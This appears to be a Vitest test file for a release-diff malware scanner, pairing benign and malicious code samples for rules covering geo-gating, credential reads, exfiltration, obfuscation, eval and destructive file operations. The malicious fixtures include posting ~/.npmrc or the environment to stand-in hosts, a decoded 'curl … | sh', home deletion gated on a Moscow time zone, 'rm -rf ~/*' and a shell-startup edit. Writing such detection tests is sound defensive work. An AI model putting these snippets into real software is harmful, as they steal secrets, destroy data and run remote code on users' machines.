// Each code rule on small before/after pairs, through the real pipeline pieces: what a release
// adds is reported, what was already there (under other names) or is ordinary stays silent.
import { describe, expect, it } from 'vitest';
import busyLoop from '../../../src/classify/code/rules/busy-loop.js';
import credentialRead from '../../../src/classify/code/rules/credential-read.js';
import decoderFunction from '../../../src/classify/code/rules/decoder-function.js';
import destructiveFs from '../../../src/classify/code/rules/destructive-fs.js';
import dynamicEval from '../../../src/classify/code/rules/dynamic-eval.js';
import encodedLiteral from '../../../src/classify/code/rules/encoded-literal.js';
import envHostMatch from '../../../src/classify/code/rules/env-host-match.js';
import exfilEndpoint from '../../../src/classify/code/rules/exfil-endpoint.js';
import gatedFormat from '../../../src/classify/code/rules/gated-format.js';
import hiddenUnicode from '../../../src/classify/code/rules/hidden-unicode.js';
import hostFingerprint from '../../../src/classify/code/rules/host-fingerprint.js';
import ipGeolocation from '../../../src/classify/code/rules/ip-geolocation.js';
import localeGate from '../../../src/classify/code/rules/locale-gate.js';
import lookalikeChoice from '../../../src/classify/code/rules/lookalike-choice.js';
import obfuscatorOutput from '../../../src/classify/code/rules/obfuscator-output.js';
import publicIpLookup from '../../../src/classify/code/rules/public-ip-lookup.js';
import sensitiveSink from '../../../src/classify/code/rules/sensitive-sink.js';
import shellStartupEdit from '../../../src/classify/code/rules/shell-startup-edit.js';
import telemetryEndpoint from '../../../src/classify/code/rules/telemetry-endpoint.js';
import timezoneGate from '../../../src/classify/code/rules/timezone-gate.js';
import { codeRuleTester } from '../../helpers/code-rule-tester.js';
import { encode, HOSTS, KEYWORDS } from './fixtures.js';

/** Code both sides of most cases share, so the added code is a release's addition, not a new file. */
const OLD = 'function a0(n){return n+1}function b0(n){return a0(n)*2}';

describe('timezone-gate', () => {
  const probe = 'function b(){return Intl.DateTimeFormat().resolvedOptions().timeZone}function c(){var t=b();return t==="Asia/Shanghai"||t==="Asia/Urumqi"}';
  codeRuleTester(timezoneGate, {
    valid: [
      { name: 'already there under other names', before: OLD + probe.replace(/\bb\b/g, 'q').replace(/\bc\b/g, 'r').replace(/\bt\b/g, 'k'), after: OLD.replace('n+1', 'n+2') + probe },
      { name: 'the zone shown, not compared', before: OLD, after: OLD + 'function z(){return "zone: "+Intl.DateTimeFormat().resolvedOptions().timeZone}' },
      { name: 'compared with UTC only', before: OLD, after: OLD + 'function z(){return Intl.DateTimeFormat().resolvedOptions().timeZone==="UTC"}' },
      { name: 'a table of zone names, not a comparison', before: OLD, after: OLD + 'var Z=["Asia/Shanghai","Europe/Paris","America/New_York"];function z(i){return Z[i]}' },
    ],
    invalid: [
      { name: 'zone read in one unit, compared in another', before: OLD, after: OLD + probe, findings: [{ severity: 'high', message: /Asia\/Shanghai/ }] },
      { name: 'UTC offset compared', before: OLD, after: OLD + 'function c(){return new Date().getTimezoneOffset()===-480}', findings: [{ severity: 'high', message: /-480/ }] },
      { name: 'switch on the zone', before: OLD, after: OLD + 'function c(){switch(process.env.TZ||Intl.DateTimeFormat().resolvedOptions().timeZone){case"Europe/Moscow":case"Europe/Minsk":return 1}return 0}', findings: [{ atLeast: 'high' }] },
    ],
  });
});

describe('locale-gate', () => {
  codeRuleTester(localeGate, {
    valid: [
      { name: 'bare language codes (localisation)', before: OLD, after: OLD + 'function l(){return navigator.language==="en"?"Hello":"Hallo"}' },
      { name: 'locale shown', before: OLD, after: OLD + 'function l(){return Intl.DateTimeFormat().resolvedOptions().locale}' },
    ],
    invalid: [
      { before: OLD, after: OLD + 'function l(){var q=Intl.DateTimeFormat().resolvedOptions().locale;return q==="zh-CN"||q==="zh-TW"}', findings: [{ severity: 'low', message: /zh-CN/ }] },
      { name: 'LANG from the environment', before: OLD, after: OLD + 'function l(){return (process.env.LANG||"").startsWith("ru_RU")}', findings: [{ severity: 'low' }] },
    ],
  });
});

describe('ip-geolocation', () => {
  codeRuleTester(ipGeolocation, {
    valid: [
      { name: 'another API', before: OLD, after: OLD + 'async function g(){return (await fetch("https://api.example.com/v1/me")).json()}' },
      { name: 'already there', before: OLD + 'async function h(){return (await fetch("https://ipapi.co/json/")).json()}', after: OLD + 'async function g(){return (await fetch("https://ipapi.co/json/")).json()}' },
    ],
    invalid: [
      { before: OLD, after: OLD + 'async function g(){let r=await fetch("https://ipapi.co/json/");return (await r.json()).country_code}', findings: [{ severity: 'medium', message: /ipapi\.co/ }] },
      { name: 'in a decoded literal', before: OLD, after: OLD + 'async function g(){return fetch(atob("aHR0cDovL2lwLWFwaS5jb20vanNvbi8="))}', findings: [{ atLeast: 'high', payloadTexts: ['http://ip-api.com/json/'] }] },
    ],
  });
});

describe('public-ip-lookup', () => {
  codeRuleTester(publicIpLookup, {
    valid: [{ before: OLD, after: OLD + 'function g(){return fetch("https://api.example.org/ip-address-docs")}' }],
    invalid: [{ before: OLD, after: OLD + 'function g(){return fetch("https://api.ipify.org?format=json")}', findings: [{ severity: 'low' }] }],
  });
});

describe('env-host-match', () => {
  const probe = 'function h(){let u=process.env.OPENAI_BASE_URL;if(!u)return!1;let n=new URL(u).hostname;return["api.deepseek.com","api.moonshot.cn","open.bigmodel.cn"].some(d=>n===d||n.endsWith("."+d))}';
  const hidden = `function D(A){return Buffer.from(A,"base64").map(q=>q^91).toString().split(",")}var X="${encode(HOSTS)}",W=D(X);function f(){let A=process.env.ANTHROPIC_BASE_URL;if(!A)return null;try{return new URL(A).hostname.toLowerCase()}catch{return null}}function Z(){let q=f();return q?W.some(Y=>q===Y||q.endsWith("."+Y)):!1}`;
  codeRuleTester(envHostMatch, {
    valid: [
      { name: "the vendor's own host", before: OLD, after: OLD + 'function o(){let u=process.env.ANTHROPIC_BASE_URL;if(!u)return!0;return["api.anthropic.com"].includes(new URL(u).host)}' },
      { name: 'loopback only', before: OLD, after: OLD + 'function o(){let h=new URL(process.env.API_URL).hostname;return h==="localhost"||h==="127.0.0.1"}' },
      { name: 'proxy bypass list from the environment', before: OLD, after: OLD + 'function o(u){let h=new URL(u).hostname;return (process.env.NO_PROXY||"").split(",").some(p=>h===p||h.endsWith(p))}' },
      { name: 'a platform name, not a host', before: OLD, after: OLD + 'function o(){let q=process.env.APP_HOST_PLATFORM;return q==="win32"||q==="darwin"}' },
      { name: 'already there under other names', before: OLD + probe.replace(/\bh\b/g, 'k').replace(/\bd\b/g, 'e'), after: OLD + probe },
    ],
    invalid: [
      { name: 'a written-out list', before: OLD, after: OLD + probe, findings: [{ severity: 'medium', message: /OPENAI_BASE_URL/ }] },
      { name: 'a hidden (decoded) list', before: OLD, after: OLD + hidden, findings: [{ atLeast: 'high', payloadLists: [HOSTS] }] },
    ],
  });
});

describe('host-fingerprint', () => {
  codeRuleTester(hostFingerprint, {
    valid: [
      { name: 'the host name in a message', before: OLD, after: OLD + 'const os=require("os");function f(){console.log("running on "+os.hostname())}' },
      { name: 'platform only', before: OLD, after: OLD + 'function f(){return {p:process.platform,a:process.arch}}' },
    ],
    invalid: [
      {
        name: 'hashed',
        before: OLD,
        after: OLD + 'const os=require("os");function f(){return require("crypto").createHash("sha256").update(os.hostname()+os.userInfo().username+JSON.stringify(os.networkInterfaces().eth0?.[0]?.mac)).digest("hex")}',
        findings: [{ severity: 'high', message: /hashed/ }],
      },
      { name: 'combined', before: OLD, after: OLD + 'const os=require("os");function f(){return {host:os.hostname(),user:os.userInfo().username,cpus:os.cpus().length}}', findings: [{ severity: 'medium' }] },
      { name: 'machine id', before: OLD, after: OLD + 'function f(){return require("child_process").execSync("ioreg -rd1 -c IOPlatformExpertDevice").toString().match(/IOPlatformUUID/)}', findings: [{ severity: 'medium' }] },
    ],
  });
});

describe('telemetry-endpoint', () => {
  codeRuleTester(telemetryEndpoint, {
    valid: [{ before: OLD, after: OLD + 'function t(e){return fetch("https://api.example.com/v1/events",{method:"POST",body:JSON.stringify(e)})}' }],
    invalid: [{ before: OLD, after: OLD + 'function t(e){return fetch("https://api.segment.io/v1/track",{method:"POST",body:JSON.stringify(e)})}', findings: [{ severity: 'low', message: /api\.segment\.io/ }] }],
  });
});

describe('exfil-endpoint', () => {
  codeRuleTester(exfilEndpoint, {
    valid: [{ before: OLD, after: OLD + 'function t(e){return fetch("https://example.com/webhook",{method:"POST",body:e})}' }],
    invalid: [
      { before: OLD, after: OLD + 'function t(e){return fetch("https://webhook.site/0c1e2f",{method:"POST",body:e})}', findings: [{ severity: 'high', message: /webhook\.site/ }] },
      { name: 'hidden in base64', before: OLD, after: OLD + 'function t(e){return fetch(atob("aHR0cHM6Ly9lbzFhYmNkLm0ucGlwZWRyZWFtLm5ldA=="),{method:"POST",body:e})}', findings: [{ severity: 'critical' }] },
    ],
  });
});

describe('sensitive-sink', () => {
  codeRuleTester(sensitiveSink, {
    valid: [
      { name: 'a token sent to its own API', before: OLD, after: OLD + 'function s(u){return fetch(u,{headers:{Authorization:"Bearer "+process.env.GITHUB_TOKEN}})}' },
      { name: 'environment passed to a child process', before: OLD, after: OLD + 'function s(){return require("child_process").spawn("node",["x.js"],{env:{...process.env,A:"1"}})}' },
    ],
    invalid: [
      {
        name: '.npmrc posted',
        before: OLD,
        after: OLD + 'const fs=require("fs"),os=require("os"),p=require("path");function s(){let t=fs.readFileSync(p.join(os.homedir(),".npmrc"),"utf8");fetch("https://collector.example.net/x",{method:"POST",body:t})}',
        findings: [{ severity: 'critical', message: /npmrc/ }],
      },
      { name: 'the whole environment posted', before: OLD, after: OLD + 'function s(u){return fetch(u,{method:"POST",body:JSON.stringify(process.env)})}', findings: [{ severity: 'critical' }] },
      { name: 'host identity in a DNS query', before: OLD, after: OLD + 'const os=require("os"),dns=require("dns");function s(){dns.lookup(`${os.hostname()}.${os.userInfo().username}.x.example.net`,()=>{})}', findings: [{ atLeast: 'high' }] },
    ],
  });
});

describe('credential-read', () => {
  codeRuleTester(credentialRead, {
    valid: [
      { name: 'a project file', before: OLD, after: OLD + 'function r(){return require("fs").readFileSync("package.json","utf8")}' },
      { name: 'one token from the environment', before: OLD, after: OLD + 'function r(){return process.env.NPM_TOKEN}' },
    ],
    invalid: [
      { name: 'SSH key', before: OLD, after: OLD + 'const fs=require("fs"),os=require("os"),path=require("path");function r(){return fs.readFileSync(path.join(os.homedir(),".ssh","id_rsa"),"utf8")}', findings: [{ severity: 'medium', message: /SSH/ }] },
      { name: 'environment searched for secrets', before: OLD, after: OLD + 'function r(){return Object.keys(process.env).filter(k=>/token|secret|password/i.test(k))}', findings: [{ severity: 'medium' }] },
    ],
  });
});

describe('encoded-literal', () => {
  const flag = `function D(A){return Buffer.from(A,"base64").map(q=>q^91).toString().split(",")}var X="${encode(KEYWORDS)}",W=D(X);`;
  codeRuleTester(encodedLiteral, {
    valid: [
      { name: 'an image data URI', before: OLD, after: OLD + 'var img="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="' },
      { name: 'an integrity hash', before: OLD, after: OLD + 'var i="sha512-9Z3Vq0Jm0i6ZzYl0b1mN2pQ3rS4tU5vW6xY7zA8bC9dE0fG1hI2jK3lM4nO5pQ6rS7tU8vW9xY0zA1bC2dE3fA=="' },
      { name: 'already there under other names', before: OLD + flag.replace(/\bD\b/g, 'E').replace(/\bW\b/g, 'V'), after: OLD.replace('n+1', 'n+3') + flag },
    ],
    invalid: [
      { name: 'XOR-encoded list and its decoder', before: OLD, after: OLD + flag, findings: [{ severity: 'high', payloadLists: [KEYWORDS] }] },
      { name: 'a base64 URL decoded with atob', before: OLD, after: OLD + 'var u=atob("aHR0cHM6Ly9leGFtcGxlLmNvbS9jb2xsZWN0");fetch(u)', findings: [{ severity: 'high', payloadTexts: ['https://example.com/collect'] }] },
    ],
  });
});

describe('decoder-function', () => {
  codeRuleTester(decoderFunction, {
    valid: [{ name: 'a decoder never applied to a literal', before: OLD, after: OLD + 'function d(s){return Buffer.from(s,"base64").toString()}module.exports=d' }],
    invalid: [
      {
        before: OLD,
        after: OLD + `function D(A){return Buffer.from(A,"base64").map(q=>q^91).toString().split(",")}var X="${encode(HOSTS)}",W=D(X);var P="${encode(KEYWORDS)}",K=D(P);`,
        findings: [{ severity: 'high', payloadLists: [HOSTS, KEYWORDS] }],
      },
    ],
  });
});

describe('obfuscator-output', () => {
  const obfuscated =
    '(function(){var _0x1a2b=["log","Hello","World"];(function(_0x3c4d,_0x5e6f){var _0x7a8b=function(_0x9c0d){while(--_0x9c0d){_0x3c4d["push"](_0x3c4d["shift"]())}};_0x7a8b(++_0x5e6f)})(_0x1a2b,0x1f4);var _0x2b3c=function(_0x4d5e,_0x6f7a){_0x4d5e=_0x4d5e-0x0;var _0x8b9c=_0x1a2b[_0x4d5e];return _0x8b9c};console[_0x2b3c("0x0")](_0x2b3c("0x1")+" "+_0x2b3c("0x2"))})()';
  codeRuleTester(obfuscatorOutput, {
    valid: [{ name: 'minified code', before: OLD, after: OLD + 'function c(e,t){for(var n=0,r=e.length;n<r;n++)if(t(e[n]))return n;return-1}' }],
    // The whole-file IIFE is unwrapped: its two statements are two units.
    invalid: [{ before: null, after: obfuscated, findings: [{ severity: 'high' }, { severity: 'high' }] }],
  });
});

describe('dynamic-eval', () => {
  codeRuleTester(dynamicEval, {
    valid: [
      { name: 'a constant Function body', before: OLD, after: OLD + 'var g=new Function("return this")()' },
      { name: 'eval of a literal', before: OLD, after: OLD + 'var g=eval("1+1")' },
      { name: 'a computed require', before: OLD, after: OLD + 'function r(n){return require("./locales/"+n+".js")}' },
    ],
    invalid: [
      { name: 'code fetched then evaluated', before: OLD, after: OLD + 'function r(u){return fetch(u).then(r=>r.text()).then(eval)}', findings: [{ severity: 'critical' }] },
      { name: 'fetched code in a Function', before: OLD, after: OLD + 'async function r(u){const c=await (await fetch(u)).text();return new Function(c)()}', findings: [{ severity: 'critical' }] },
      {
        name: 'decoded code evaluated',
        before: OLD,
        after: OLD + 'var c=atob("cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJjdXJsIGh0dHBzOi8vZXhhbXBsZS5jb20vcy5zaCB8IHNoIik=");eval(c)',
        findings: [{ atLeast: 'high', payloadTexts: ['require("child_process").execSync("curl https://example.com/s.sh | sh")'] }],
      },
      { name: 'a template compiled at run time', before: OLD, after: OLD + 'function t(s){return new Function("o","return `"+s+"`")}', findings: [{ severity: 'low' }] },
    ],
  });
});

describe('hidden-unicode', () => {
  codeRuleTester(hiddenUnicode, {
    valid: [
      { name: 'a whitespace table', before: OLD, after: OLD + 'var ws=" \\t\\u200B\\uFEFF\\u00A0"' },
      { name: 'an emoji sequence', before: OLD, after: OLD + 'var e="family \\uD83D\\uDC68\\u200D\\uD83D\\uDC69\\u200D\\uD83D\\uDC67"' },
      { name: 'a character-class table with ranges', before: OLD, after: OLD + 'var r="A-Za-z\\u00C0-\\u00D6\\u200C-\\u200D\\u2070-\\u218F"' },
    ],
    invalid: [
      { name: 'a zero-width space inside a host name (escaped)', before: OLD, after: OLD + 'var s="pay\\u200Bpal.com"', findings: [{ severity: 'medium', payloadTexts: ['pay[U+200B ZERO WIDTH SPACE]pal.com'] }] },
      { name: 'bidi controls in a comment (Trojan Source)', before: OLD, after: OLD + 'function c(u){/* check \u202e if admin \u2066*/ return u.isAdmin}', findings: [{ severity: 'high' }] },
      { name: 'a message in tag characters', before: OLD, after: OLD + 'var s="hi\\u{E0049}\\u{E0047}\\u{E004E}\\u{E004F}\\u{E0052}\\u{E0045}"', findings: [{ severity: 'high', payloadTexts: ['IGNORE'] }] },
    ],
  });
});

describe('lookalike-choice', () => {
  const pick = 'function G(A){if(!A)return"\'";if(A.x&&A.k)return"\\u2019";if(A.h)return"\\u02BC";if(A.x)return"\\u02B9";return"\'"}';
  codeRuleTester(lookalikeChoice, {
    valid: [
      { name: 'a normalisation table', before: OLD, after: OLD + 'var m={"\\u2019":"\'","\\u2018":"\'","\\u02BC":"\'"};function n(c){return m[c]||c}' },
      { name: 'look-alikes compared, one outcome', before: OLD, after: OLD + 'function n(c){return c==="\\u2019"||c==="\\u02BC"?"\'":c}' },
      { name: 'already there under other names', before: OLD + pick.replace(/\bA\b/g, 'B').replace('G(', 'H('), after: OLD + pick },
    ],
    invalid: [{ name: 'escapes decoded first', before: OLD, after: OLD + pick, findings: [{ severity: 'high', payloadLists: [["'", '\u2019', '\u02BC', '\u02B9']] }] }],
  });
});

describe('gated-format', () => {
  codeRuleTester(gatedFormat, {
    valid: [
      { name: 'a date format chosen by locale (localisation)', before: OLD, after: OLD + 'function f(d){return navigator.language==="en-US"?d.replace(/-/g,"/"):d}' },
      { name: 'an endpoint chosen by env var', before: OLD, after: OLD + 'function f(){return process.env.API_BASE_URL==="https://staging.example.com"?"https://staging.example.com":"https://api.example.com"}' },
      { name: 'a separator switched without a gate', before: OLD, after: OLD + 'function f(d,o){return o.slash?d.replace(/-/g,"/"):d}' },
    ],
    invalid: [
      {
        name: 'separator switched by time zone',
        before: OLD,
        after: OLD + 'function f(d){var z=Intl.DateTimeFormat().resolvedOptions().timeZone;return z==="Europe/Moscow"?d.replace(/-/g,"."):d}',
        findings: [{ atLeast: 'high', message: /timezone/ }],
      },
    ],
  });
});

describe('destructive-fs', () => {
  codeRuleTester(destructiveFs, {
    valid: [
      { name: 'a temporary folder', before: OLD, after: OLD + 'const fs=require("fs"),os=require("os"),path=require("path");function c(){fs.rmSync(path.join(os.tmpdir(),"x"),{recursive:true,force:true})}' },
      { name: 'a cache inside home', before: OLD, after: OLD + 'const fs=require("fs"),os=require("os"),path=require("path");var C=path.join(os.homedir(),".cache","tool");function c(){fs.rmSync(C,{recursive:true})}' },
    ],
    invalid: [
      {
        name: 'home removed behind a time-zone gate',
        before: OLD,
        after: OLD + 'function w(){if(Intl.DateTimeFormat().resolvedOptions().timeZone==="Europe/Moscow")require("fs").rmSync(require("os").homedir(),{recursive:true,force:true})}',
        findings: [{ severity: 'critical' }],
      },
      { name: 'rm -rf through a shell', before: OLD, after: OLD + 'function w(){require("child_process").execSync("rm -rf ~/*")}', findings: [{ severity: 'high' }] },
    ],
  });
});

describe('shell-startup-edit', () => {
  codeRuleTester(shellStartupEdit, {
    valid: [{ before: OLD, after: OLD + 'const fs=require("fs");function w(c){fs.writeFileSync("config.json",JSON.stringify(c))}' }],
    invalid: [
      {
        before: OLD,
        after: OLD + 'const fs=require("fs"),os=require("os"),path=require("path");function w(){fs.appendFileSync(path.join(os.homedir(),".bashrc"),"\\nexport PATH=/tmp/x:$PATH\\n")}',
        findings: [{ severity: 'high', message: /\.bashrc/ }],
      },
      { name: 'crontab through a shell', before: OLD, after: OLD + 'function w(){require("child_process").execSync("echo \'* * * * * curl x | sh\' >> ~/.zshrc")}', findings: [{ severity: 'high' }] },
    ],
  });
});

describe('busy-loop', () => {
  codeRuleTester(busyLoop, {
    valid: [{ before: OLD, after: OLD + 'function h(x){for(;;){if(x())break}}' }],
    invalid: [{ before: OLD, after: OLD + 'function h(){for(;;);}', findings: [{ severity: 'medium' }] }],
  });
});

describe('gated-format describes a change by its effect', () => {
  it('gives `.replace(/-/g, "/")` and `.replaceAll("-", "/")` under the same gate one fingerprint', async () => {
    const { classifySources } = await import('../../helpers/code-rule-tester.js');
    const gate = 'var z=Intl.DateTimeFormat().resolvedOptions().timeZone;';
    const a = await classifySources('', `function f(d){${gate}return z==="Asia/Shanghai"?d.replace(/-/g,"/"):d}`);
    const b = await classifySources('', `function g(q){${gate}return z==="Asia/Shanghai"?q.replaceAll("-","/"):q}`);
    const fa = a.introduced.find((x) => x.ruleId === 'gated-format');
    const fb = b.introduced.find((x) => x.ruleId === 'gated-format');
    expect(fa?.message).toContain('every "-" → "/"');
    expect(fb?.fingerprint).toBe(fa?.fingerprint);
  });
});
